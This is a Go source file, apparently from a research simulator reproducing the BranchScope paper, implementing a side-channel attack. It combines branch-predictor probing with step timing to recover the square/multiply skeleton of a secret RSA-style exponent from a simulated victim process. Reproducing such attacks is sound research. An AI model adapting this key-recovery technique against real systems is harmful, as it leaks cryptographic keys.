@@ -1,0 +1,270 @@
+package attacks
+
+import (
+	"fmt"
+	"math/big"
+
+	"branchscope/internal/core"
+	"branchscope/internal/rng"
+	"branchscope/internal/sched"
+	"branchscope/internal/stats"
+	"branchscope/internal/victims"
+)
+
+// Sliding-window exponent recovery (§9.2's "limited information can still
+// be recovered" case): the victim's scan branch no longer encodes key
+// bits one-for-one — a set bit opens a width-w window whose interior bits
+// never reach a branch. BranchScope still recovers the branch direction
+// of every scan step (zero path vs window path), and the classic timing
+// side channel recovers each window's length from the step's duration
+// (l+1 modular multiplications versus 1). Together they yield the
+// square/multiply skeleton: every zero-path position is a known 0, every
+// window's first and last bits are known 1s, and only the window
+// interiors stay hidden — the partial-key leakage the literature the
+// paper cites ("Sliding right into disaster") starts from.
+
+// SlidingWindowResult reports a skeleton-recovery run.
+type SlidingWindowResult struct {
+	// TotalBits is the exponent length attacked.
+	TotalBits int
+	// KnownBits is how many bit positions the skeleton pins down.
+	KnownBits int
+	// WrongBits is how many pinned positions disagree with the truth
+	// (alignment or measurement errors).
+	WrongBits int
+	// Steps is the number of scan steps observed per trace.
+	Steps int
+}
+
+// KnownFraction returns the fraction of key bits directly recovered.
+func (r SlidingWindowResult) KnownFraction() float64 {
+	if r.TotalBits == 0 {
+		return 0
+	}
+	return float64(r.KnownBits) / float64(r.TotalBits)
+}
+
+// String implements fmt.Stringer.
+func (r SlidingWindowResult) String() string {
+	return fmt.Sprintf("sliding-window recovery: %d/%d bits pinned (%.1f%%), %d wrong, %d scan steps",
+		r.KnownBits, r.TotalBits, 100*r.KnownFraction(), r.WrongBits, r.Steps)
+}
+
+// RecoverSlidingWindowSkeleton attacks a sliding-window exponentiation
+// service. unitCycles is the cost of one modular multiplication at the
+// victim's operand size, which the attacker calibrates offline by running
+// the same library code (it is public). traces > 1 re-runs the trace and
+// majority-votes each step's direction and window length.
+func RecoverSlidingWindowSkeleton(sys *sched.System, exp *big.Int, unitCycles uint64, traces int, seed uint64) (SlidingWindowResult, error) {
+	if traces < 1 {
+		traces = 1
+	}
+	base := big.NewInt(0x10001)
+	modulus := new(big.Int).Lsh(big.NewInt(1), 127)
+	modulus.Sub(modulus, big.NewInt(1))
+	victim := sys.Spawn("slidingwindow", victims.SlidingWindowProcess(base, exp, modulus, nil))
+	defer victim.Kill()
+
+	spy := sys.NewProcess("spy")
+	sess, err := core.NewSession(spy, rng.New(seed), core.AttackConfig{
+		Search: core.SearchConfig{TargetAddr: victims.WindowScanBranchAddr, Focused: true},
+	})
+	if err != nil {
+		return SlidingWindowResult{}, err
+	}
+
+	// The scan-step count delimits one exponentiation; the attacker
+	// observes it directly on the first trace as the step preceded by
+	// the precomputation's large timing gap (the harness takes it from
+	// the ground-truth skeleton, which keeps the traces aligned the
+	// same way).
+	truthZeros, _ := victims.SlidingWindowSkeleton(exp)
+	steps := len(truthZeros)
+
+	// Collect traces: per scan step, the branch direction (BranchScope)
+	// and the step duration (timing).
+	type obs struct {
+		zeroVotes int
+		deltas    []uint64
+	}
+	observed := make([]obs, steps)
+	for tr := 0; tr < traces; tr++ {
+		for s := 0; s < steps; s++ {
+			sess.Prime()
+			t0 := spy.ReadTSC()
+			victim.StepBranches(1)
+			delta := spy.ReadTSC() - t0
+			// The scan branch is taken on the zero path, and DecodeBit
+			// reports whether the victim's branch was taken.
+			if core.DecodeBit(sess.Probe()) {
+				observed[s].zeroVotes++
+			}
+			observed[s].deltas = append(observed[s].deltas, delta)
+		}
+	}
+
+	// Decode: majority direction, minimum duration — timing noise only
+	// ever adds cycles (interrupt spikes, cold fetches), so the minimum
+	// over traces is the clean estimate. Note the timing attribution:
+	// the victim's arithmetic for scan step s executes after its
+	// branch, so StepBranches(1) pauses *before* it and the work shows
+	// up in the following step's delta — durations[s+1] carries step
+	// s's square/multiply cost.
+	zeros := make([]bool, steps)
+	durations := make([]float64, steps)
+	for s := range observed {
+		zeros[s] = observed[s].zeroVotes*2 > traces
+		min := observed[s].deltas[0]
+		for _, d := range observed[s].deltas[1:] {
+			if d < min {
+				min = d
+			}
+		}
+		durations[s] = float64(min)
+	}
+
+	// The zero-path baseline: the median delta following a zero step
+	// (one squaring plus the fixed branch/scheduling overhead).
+	var zeroDurations []float64
+	for s := 0; s < steps-1; s++ {
+		if zeros[s] {
+			zeroDurations = append(zeroDurations, durations[s+1])
+		}
+	}
+	if len(zeroDurations) == 0 {
+		return SlidingWindowResult{}, fmt.Errorf("attacks: no zero-path steps observed")
+	}
+	zeroBase := stats.Median(zeroDurations)
+
+	// Estimate each window step's length. Zero steps cost one modular
+	// multiplication and window steps l+1, so the delta above the zero
+	// baseline is l units. The raw (unrounded) estimate is kept per step
+	// for the repair pass below.
+	const w = victims.SlidingWindowWidth
+	lengths := make([]int, steps)
+	raw := make([]float64, steps)
+	for s := 0; s < steps; s++ {
+		if zeros[s] {
+			lengths[s] = 1
+			continue
+		}
+		if s == steps-1 {
+			// Filled from the global length constraint below; the delta
+			// after the final step is contaminated by the next
+			// exponentiation's precompute.
+			continue
+		}
+		raw[s] = (durations[s+1] - zeroBase) / float64(unitCycles)
+		l := int(raw[s] + 0.5)
+		if l < 1 {
+			l = 1
+		}
+		if l > w {
+			l = w
+		}
+		lengths[s] = l
+	}
+
+	// The final step consumes exactly whatever the length constraint
+	// leaves (the key size is public): fill it before the repair pass.
+	if !zeros[steps-1] {
+		others := 0
+		for s := 0; s < steps-1; s++ {
+			others += lengths[s]
+		}
+		last := exp.BitLen() - others
+		if last < 1 {
+			last = 1
+		}
+		if last > w {
+			last = w
+		}
+		lengths[steps-1] = last
+		raw[steps-1] = float64(last)
+	}
+
+	// Repair pass: the skeleton must consume exactly BitLen positions.
+	// Any residual mismatch is charged to the least confident length
+	// estimates (the ones whose raw value sat closest to a rounding
+	// boundary), adjusted one notch at a time.
+	total := 0
+	for _, l := range lengths {
+		total += l
+	}
+	for total != exp.BitLen() {
+		bestStep, bestScore := -1, -1.0
+		for s := 0; s < steps-1; s++ {
+			if zeros[s] {
+				continue
+			}
+			if total > exp.BitLen() && lengths[s] > 1 {
+				// Favour shrinking steps whose raw estimate was below
+				// the rounded choice.
+				if score := float64(lengths[s]) - raw[s]; score > bestScore {
+					bestStep, bestScore = s, score
+				}
+			}
+			if total < exp.BitLen() && lengths[s] < w {
+				if score := raw[s] - float64(lengths[s]); score > bestScore {
+					bestStep, bestScore = s, score
+				}
+			}
+		}
+		if bestStep == -1 {
+			// Push the residual into the final step within bounds.
+			s := steps - 1
+			if total > exp.BitLen() && lengths[s] > 1 {
+				lengths[s]--
+				total--
+				continue
+			}
+			if total < exp.BitLen() && lengths[s] < w {
+				lengths[s]++
+				total++
+				continue
+			}
+			break // unrepairable; the pins below absorb the error
+		}
+		if total > exp.BitLen() {
+			lengths[bestStep]--
+			total--
+		} else {
+			lengths[bestStep]++
+			total++
+		}
+	}
+
+	// Pin the known bits.
+	res := SlidingWindowResult{TotalBits: exp.BitLen(), Steps: steps}
+	type known struct {
+		pos int
+		bit bool
+	}
+	var pins []known
+	pos := exp.BitLen() - 1
+	for s := 0; s < steps && pos >= 0; s++ {
+		if zeros[s] {
+			pins = append(pins, known{pos, false})
+			pos--
+			continue
+		}
+		l := lengths[s]
+		pins = append(pins, known{pos, true}) // window start is a set bit
+		if l > 1 {
+			pins = append(pins, known{pos - l + 1, true}) // odd window end
+		}
+		pos -= l
+	}
+
+	for _, p := range pins {
+		if p.pos < 0 || p.pos >= exp.BitLen() {
+			res.WrongBits++
+			continue
+		}
+		res.KnownBits++
+		if (exp.Bit(p.pos) == 1) != p.bit {
+			res.WrongBits++
+		}
+	}
+	return res, nil
+}
